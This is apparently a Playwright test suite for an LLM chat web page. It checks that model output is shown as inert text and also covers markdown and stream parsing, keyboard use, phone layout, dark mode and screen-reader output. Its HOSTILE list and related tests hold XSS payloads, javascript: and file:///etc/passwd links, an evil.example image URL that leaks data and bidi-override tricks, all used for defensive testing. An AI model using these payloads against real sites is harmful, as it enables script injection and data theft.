"""The web page by keyboard, on phones, in the dark, to a screen reader, and with text that means harm.

With LLMC_SCREENSHOTS=1 the pictures in docs/ are taken anew.
"""

from __future__ import annotations

import json
import os
import random
import re
from collections.abc import Iterator
from typing import Any

import pytest

from .chromium import PHONE, SMALL, Open, ask, chromium, expect, watched_pages, whole
from .conftest import ROOT
from .fake_web_server import (
    FakeServer,
    Gate,
    Refusal,
    Step,
    call,
    calls,
    delta,
    error,
    says,
)

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def server() -> Iterator[FakeServer]:
    with FakeServer() as server:
        yield server


@pytest.fixture
def open_page(browser: Any, server: FakeServer) -> Iterator[Open]:
    with watched_pages(browser, server.url) as open_page:
        yield open_page


# What a model may say -------------------------------------------------------------------------------------

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    '<a href="javascript:alert(3)">x</a>',
    "[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) [file](file:///etc/passwd)",
    "![picture](https://evil.example/p.png?leak=1)",
    "[safe.example](https://evil.example/path)",
    '[bad](https://user:pass@[::1/) [quote](https://evil.example/"onmouseover=alert(6))',
    "</textarea></style></title><svg/onload=alert(7)>",
    "`<b>code</b>` **<i>bold</i>** &lt;entity&gt; &#x3c;",
    "access = 'user\u202e\u2066 // admin\u2069 \u2066'",
    "# <u>heading</u>",
    "| <s>a</s> | b |\n|---|---|\n| <img src=y> | c |",
]


def test_hostile_answers_are_text(open_page: Open, server: FakeServer) -> None:
    text = (
        "\n\n".join(HOSTILE) + "\n\n```<script>alert(8)</script>\n<img src=z onerror=alert(9)>\u202e\n```\n"
    )
    server.answers = [says(*re.findall(r"(?s).{1,7}", text))]
    page = open_page()
    ask(page, "<img src=q onerror=alert(10)>\u202e")
    whole(page)
    prose = page.locator(".prose")
    for words in (
        "<img src=x onerror=alert(1)>",
        "<script>alert(2)</script>",
        "onload=alert(7)",
        "&lt;entity&gt;",
    ):
        expect(prose).to_contain_text(words)
    expect(page.locator(".said")).to_have_text("<img src=q onerror=alert(10)>U+202E")
    inside = (
        "#transcript :is(img, script, iframe, object, embed, style, link, i, u, s, svg:not(.icon, .trace))"
    )
    expect(page.locator(inside)).to_have_count(0)
    links = prose.locator("a").evaluate_all("all => all.map(a => [a.href, a.rel, a.textContent])")
    assert all(href.startswith(("https://", "http://")) for href, _, _ in links), links
    assert all("noopener" in rel for _, rel, _ in links)
    assert ["https://evil.example/path", "safe.example"] in [[href, words] for href, _, words in links]
    expect(prose).to_contain_text("safe.example (https://evil.example/path)")  # never hides where it leads
    expect(prose).to_contain_text("[click](javascript:alert(4))")
    # Characters that reorder a line are shown, in prose and in code, and none is left as it was.
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", page.locator("#transcript").inner_text())
    expect(prose.locator("pre .control")).to_have_text("U+202E")
    assert page.evaluate("document.querySelectorAll('[onerror], [onload], [style]').length") == 1  # the gauge
    attributes = "all => all.flatMap(n => [...n.attributes]).filter(a => a.name.startsWith('on')).length"
    assert page.locator("*").evaluate_all(attributes) == 0


def test_hostile_names_of_models_tools_and_errors_are_text(open_page: Open, server: FakeServer) -> None:
    evil = "<img src=x onerror=alert(1)>"
    server.models = [
        {"id": evil, "llmc": {"quantization": evil, "target": [evil], "quality": evil, "isa": 7}}
    ]
    server.answers = [
        calls(
            call(0, evil, evil), delta(tool_calls=[None, 3, {"index": -1}, {"index": 10**9}, {"index": "0"}])
        ),
        Refusal(400, error(evil, type=evil, param=evil, code=evil)),
    ]
    page = open_page()
    expect(page.locator("#empty h2")).to_have_text(evil)
    ask(page, "x")
    expect(page.locator(".call-name").first).to_have_text(evil)
    expect(page.locator(".call-args").first).to_have_text(evil)
    for field in page.locator(".calls textarea").all():
        field.fill("r")
    page.click(".calls [type=submit]")
    expect(page.locator(".error")).to_contain_text(evil)
    expect(page.locator("main img, aside img")).to_have_count(0)


def test_a_megabyte_is_shown_whole(open_page: Open, server: FakeServer) -> None:
    line = "All work and no play makes Jack a dull boy. " * 3
    code = "".join(f"{number:06d} = {line}\n" for number in range(3000))
    text = "x" * 300_000 + "\n\n" + (line + "\n\n") * 1000 + "```\n" + code + "```\n" + "*a [b](" * 20_000
    assert len(text) > 10**6
    server.answers = [says(*[text[at : at + 4000] for at in range(0, len(text), 4000)], "END")]
    page = open_page(**SMALL)
    ask(page, "Go on")
    page.wait_for_selector(".numbers", timeout=60_000)
    shown = page.evaluate("document.querySelector('.prose').textContent")
    assert shown.count("x" * 1000) >= 280 and shown.count("All work") == 12_000 and "002999 = " in shown
    assert shown.endswith("END")
    assert page.evaluate("document.querySelector('.prose pre').textContent") == code
    assert not sideways(page)


def test_events_are_the_same_however_their_text_is_cut(open_page: Open) -> None:
    """The parser alone: every pair of cuts, and the line ends, comments and fields that the format allows."""
    text = (
        "\ufeffdata: one\r\ndata:two\n\n: comment\rid: 7\r\revent: x\ndata\n\ndata:  three\r\n\r\ndata: cut\n"
    )
    page = open_page()
    found = page.evaluate(
        """async (text) => {
            const { EventParser } = await import("/static/sse.js");
            const read = (parts) => {
                const parser = new EventParser();
                return JSON.stringify(parts.flatMap((part) => parser.push(part)));
            };
            const all = new Set([read([text]), read([...text])]);
            for (let i = 0; i <= text.length; i++)
                for (let j = i; j <= text.length; j++)
                    all.add(read([text.slice(0, i), text.slice(i, j), text.slice(j)]));
            return [...all].map((one) => JSON.parse(one));
        }""",
        text,
    )
    assert found == [["one\ntwo", "", " three"]]


def test_markdown_becomes_nodes(open_page: Open) -> None:
    page = open_page()
    cases = {
        "a **b** *c* _d_ ~~e~~ `f`": "p(a strong(b) em(c) em(d) del(e) code(f))",
        "***both***": "p(strong(em(both)))",
        "2 * 3 * 4, snake_case_name, a ** b": "p(2 * 3 * 4, snake_case_name, a ** b)",
        "**open": "p(**open)",
        r"\*no\* `` a`b ``": "p(*no* code(a`b))",
        "one\ntwo\n\nthree": "p(one br() two) p(three)",
        "## Head ##\ntext": "h4(Head) p(text)",
        "- a\n  - b\n  - c\n- d\n\n1. x\n2. y": ("div(ul(li(a ul(li(b) li(c))) li(d)) ol(li(x) li(y)))"),
        "3. x\n   more\n4. y": "div(ol[3](li(x br() more) li(y)))",
        "> q *r*\n> s": "blockquote(p(q em(r) br() s))",
        "a\n\n---\n\nb": "p(a) hr() p(b)",
        "| a | b |\n|--|:-:|\n| c \\| d | e |": (
            "div(table(thead(tr(th(a) th(b))) tbody(tr(td(c | d) td(e)))))"
        ),
        "a | b\nc": "p(a | b br() c)",
        "see https://x.example/a_b_c. End": "p(see a(https://x.example/a_b_c) . End)",
        "<https://x.example/>": "p(a(https://x.example/))",
        "[t](https://x.example/)": "p(a(t) span( (https://x.example/)))",
        "[t](ftp://x.example/)": "p([t](ftp://x.example/))",
        "~~~\n**a**\n~~~": "div(div(span(text) button) pre(code(span(**a**))))",
        "```js\nopen": "div(div(span(js) button) pre(code(span(open))))",
    }
    show = """async ([text, step]) => {
        const { Markdown } = await import("/static/markdown.js");
        const root = document.createElement("div");
        const view = new Markdown(root);
        for (let at = 0; at < text.length; at += step) {
            view.append(text.slice(at, at + step));
            view.draw();
        }
        view.end();
        root.normalize();
        const show = (node) => {
            if (node.nodeType === 3) return node.data.replace(/\\n$/, "");
            const name = node.localName;
            if (name === "button") return name;
            const start = node.getAttribute("start");
            return `${name}${start ? `[${start}]` : ""}(${[...node.childNodes].map(show).join(" ")})`;
        };
        return [...root.childNodes].map(show).join(" ");
    }"""

    def normal(text: str) -> str:
        text = re.sub(r"\s+", " ", text)
        return text.replace("( ", "(").replace(" )", ")")

    for text, expected in cases.items():
        for step in (1, 3, 1000):
            assert normal(page.evaluate(show, [text, step])) == normal(expected), (text, step)


def test_markdown_is_the_same_however_it_is_streamed(open_page: Open) -> None:
    draw = random.Random(1)
    parts = [
        "*",
        "**",
        "_",
        "`",
        "```",
        "\n",
        "\n\n",
        "a",
        "b c",
        " ",
        "[",
        "](",
        "http://x.y/",
        ")",
        "|",
        "---",
    ]
    parts += ["- ", "1. ", "> ", "#", "~~", "\\", "<", ">", "é", "\u202e", '"', "  ", "\r\n", "| a |", ": "]
    texts = ["".join(draw.choices(parts, k=draw.randint(1, 60))) for _ in range(400)]
    different = """async (texts) => {
        const { Markdown } = await import("/static/markdown.js");
        const html = (text, step) => {
            const root = document.createElement("div");
            const view = new Markdown(root);
            for (let at = 0; at < text.length; at += step) {
                view.append(text.slice(at, at + step));
                view.draw();
            }
            view.end();
            root.normalize();
            return root.innerHTML;
        };
        const same = (text) => [1, 2, 7].every((step) => html(text, step) === html(text, Infinity));
        return texts.filter((text) => !same(text));
    }"""
    assert open_page().evaluate(different, texts) == []


# By keyboard, on phones, in the dark ----------------------------------------------------------------------


def focused(page: Any) -> str:
    return page.evaluate("document.activeElement.id || document.activeElement.textContent.trim()")


def test_keyboard_alone_is_enough(open_page: Open, server: FakeServer) -> None:
    server.answers = [says("Answer one."), says("Answer two.")]
    page = open_page()
    assert focused(page) == "prompt"
    page.keyboard.type("line one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("line two")
    page.keyboard.press("Enter")
    whole(page)
    assert server.requests[0]["messages"][0]["content"] == "line one\nline two"
    assert focused(page) == "prompt"
    seen: list[str] = []
    page.focus(".skip")
    for _ in range(40):
        seen.append(focused(page))
        outline = page.evaluate(
            "(() => { const of = (n) => getComputedStyle(n); const a = document.activeElement;"
            " return of(a).outlineStyle !== 'none' || of(a.closest('.field') ?? a).boxShadow !== 'none'; })()"
        )
        assert outline or seen[-1] == "", f"focus on {seen[-1]!r} is not to be seen"
        if seen[-1] == "remember":
            break
        page.keyboard.press("Tab")
    order = [
        "Skip to the message field",
        "model",
        "new",
        "export",
        "toggle",
        "scroll",
        "Copy",
        "Edit",
        "Copy",
    ]
    order += ["Regenerate", "prompt", "send", "system", "temperature", "top_p", "max_tokens", "seed", "tools"]
    order += ["tool_choice", "tools-example", "key", "keep-key", "remember"]
    assert seen == order
    page.focus(".skip")
    page.keyboard.press("Enter")
    assert focused(page) == "prompt"
    page.keyboard.press("ArrowUp")  # in the empty field: edit the last message
    expect(page.locator(".edit")).to_be_focused()
    page.keyboard.press("Control+A")
    page.keyboard.type("other words")
    page.keyboard.press("Enter")
    expect(page.locator(".prose")).to_have_text("Answer two.")
    assert server.requests[1]["messages"] == [{"role": "user", "content": "other words"}]


def test_an_input_method_keeps_its_enter(open_page: Open, server: FakeServer) -> None:
    page = open_page()
    page.fill("#prompt", "にほん")
    page.dispatch_event("#prompt", "keydown", {"key": "Enter", "isComposing": True})
    assert page.input_value("#prompt") == "にほん" and not server.requests


def sideways(page: Any) -> list[str]:
    """Whether the page, or a part of it that should not, scrolls sideways: names of what does."""
    return page.evaluate(
        """() => [...document.querySelectorAll("html, body, main, main div, .panel, .top")]
            .filter((node) => !node.closest("[inert]") && getComputedStyle(node).overflowX !== "auto")
            .filter((node) => node.scrollWidth > node.clientWidth + 1 && node.clientWidth
                || node.getBoundingClientRect().right > innerWidth + 1)
            .map((node) => `${node.localName}.${node.className}: ${node.scrollWidth}, ${node.clientWidth}`)"""
    )


def small_targets(page: Any) -> list[str]:
    return page.evaluate(
        """() => [...document.querySelectorAll("button, select, input, textarea, .check")]
            .filter((node) => node.checkVisibility({ visibilityProperty: true }) && !node.closest("[inert]"))
            .map((node) => (node.type === "checkbox" ? node.closest("label") : node))
            .map((node) => [node, node.getBoundingClientRect()])
            .filter(([, box]) => box.width < 44 || box.height < 44)
            .map(([node, box]) => `${node.id || node.textContent}: ${box.width} x ${box.height}`)"""
    )


def test_small_phones_scroll_in_one_direction(open_page: Open, server: FakeServer) -> None:
    wide = (
        "| " + " | ".join(f"column{at}" for at in range(12)) + " |\n|" + "---|" * 12 + "\n|" + " cell |" * 12
    )
    text = (
        f"{'W' * 400} https://x.example/{'p' * 300}\n\n`{'c' * 300}`\n\n```\n{'z' * 500}\n```\n\n{wide}\n\n"
    )
    text += "- a\n  - b\n    - c\n      - d\n        - e\n          - " + "f" * 90
    server.answers = [calls(text, call(0, "n" * 100, json.dumps({"k" * 80: "v" * 500})))]
    page = open_page(**SMALL, reduced_motion="reduce")  # the panel does not slide: it is where it is
    assert not sideways(page) and not small_targets(page)
    ask(page, "q" * 300)
    whole(page)
    assert not sideways(page) and not small_targets(page)
    page.click("#toggle")
    expect(page.locator("#close")).to_be_focused()
    assert not sideways(page) and not small_targets(page)
    assert page.evaluate("document.querySelector('main').inert")
    page.keyboard.press("Escape")
    expect(page.locator("#toggle")).to_be_focused()
    assert not page.evaluate("document.querySelector('main').inert")
    page.focus("#prompt")
    page.keyboard.type("one")
    page.keyboard.press("Enter")  # a phone's keyboard has no Shift + Enter: the button sends
    assert page.input_value("#prompt") == "one\n" and len(server.requests) == 1
    page.locator(".edit, .actions .button", has_text="Edit").click()
    assert not sideways(page) and not small_targets(page)


def test_it_follows_the_readers_colours_and_motion(open_page: Open, server: FakeServer) -> None:
    colours = []
    for scheme in ("light", "dark"):
        page = open_page(color_scheme=scheme, reduced_motion="reduce")
        colours.append(page.evaluate("getComputedStyle(document.body).backgroundColor"))
        server.answers = [says("Half", Gate())]
        ask(page, "Go")
        expect(page.locator(".prose")).to_have_text("Half")
        dot = page.evaluate("getComputedStyle(document.querySelector('.status'), '::before').animationName")
        assert dot == "none"
        page.keyboard.press("Escape")
        whole(page)
    light, dark = ([int(part) for part in re.findall(r"\d+", colour)] for colour in colours)
    assert min(light) > 200 and max(dark) < 60


def test_a_screen_reader_hears_sentences(open_page: Open, server: FakeServer) -> None:
    gate = Gate()
    server.answers = [says("One sen", "tence. And **half", gate, " of** another.")]
    page = open_page()
    ask(page, "Go")
    spoken = page.locator("#spoken p")
    expect(spoken).to_have_text(["One sentence."])
    assert page.get_attribute("#spoken", "aria-live") == "polite"
    assert page.get_attribute("#transcript", "aria-live") == "off"  # else every token would be said
    gate.opened.set()
    expect(spoken).to_have_text(["One sentence.", "And half of another.", "End of the answer."])


# Pictures -------------------------------------------------------------------------------------------------

PICTURED = '''Yes. A palindrome reads the same **forwards and backwards**, so it is enough to compare the \
text with its reverse, once everything that is not a letter or a digit is gone:

```python
def is_palindrome(text: str) -> bool:
    """True for "A man, a plan, a canal: Panama"."""
    letters = [c.casefold() for c in text if c.isalnum()]
    return letters == letters[::-1]
```

Two things to know:

1. `casefold()` is stricter than `lower()`: it also treats *ß* and *ss* as equal.
2. The list costs memory in proportion to the text. For very long texts, compare from both ends instead.
'''


@pytest.mark.skipif(
    os.environ.get("LLMC_SCREENSHOTS") != "1", reason="LLMC_SCREENSHOTS=1 takes the pictures anew"
)
def test_pictures(open_page: Open, server: FakeServer) -> None:
    draw = random.Random(5)
    pace: list[Step] = [0.24]
    for word in re.findall(r"\s*\S+\s*", PICTURED):
        pace += [word, draw.uniform(0.014, 0.03)]

    def talk(page: Any) -> None:
        server.answers = [says(*pace, prompt=41, cached=16)]
        ask(page, "Write a Python function that tells whether a text is a palindrome.")
        whole(page)

    def tool(page: Any) -> None:
        page.click("#tools-example")
        talked = [call(0, "calculate", '{"expression": '), 0.2, call(0, None, '"25 * 4 + 10"}')]
        server.answers = [
            calls(*talked),
            says(*"25 × 4 + 10 is **110**.".partition(" "), prompt=170, cached=150),
        ]
        ask(page, "What is 25 * 4 + 10?")
        page.fill(".calls textarea", "110")
        page.click(".calls [type=submit]")
        whole(page)

    desktop = {"viewport": {"width": 1280, "height": 800}}
    for name, options, act in (
        ("desktop", {**desktop, "color_scheme": "light"}, talk),
        ("dark", {**desktop, "color_scheme": "dark"}, tool),
        ("phone", {**PHONE, "color_scheme": "light", "device_scale_factor": 1.5}, talk),
    ):
        page = open_page(**options)
        act(page)
        path = ROOT / "docs" / f"web-{name}.png"
        page.mouse.move(0, 0)
        page.screenshot(path=path)
        assert path.stat().st_size <= 200_000
